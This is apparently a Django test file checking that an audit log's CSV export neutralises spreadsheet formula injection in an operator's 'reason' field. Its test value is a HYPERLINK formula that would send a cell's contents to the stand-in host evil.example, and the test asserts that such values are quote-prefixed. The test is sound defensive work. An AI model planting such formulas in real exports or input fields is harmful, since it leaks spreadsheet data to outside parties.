"""The audit CSV export never hands a spreadsheet a live formula."""

import csv
import io

from django.urls import reverse

from audit.models import AuditRecord
from runs.models import Run

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_audit_csv_neutralises_an_operator_reason_that_is_a_formula(client_for, operator,
                                                                    stuck_run):
    client = client_for(operator)
    response = client.post(reverse("console:action", args=[stuck_run.pk, "terminate"]),
                           {"reason": FORMULA,
                            "seen": str(Run.objects.get(pk=stuck_run.pk).audit_seq)})
    assert response.status_code == 302
    assert AuditRecord.objects.filter(run=stuck_run, reason=FORMULA).exists()

    export = client.get(reverse("console:audit"), {"run": stuck_run.pk, "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
    reasons = [row["reason"] for row in rows if row["reason"]]
    assert "'" + FORMULA in reasons
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for row in rows for cell in row.values())
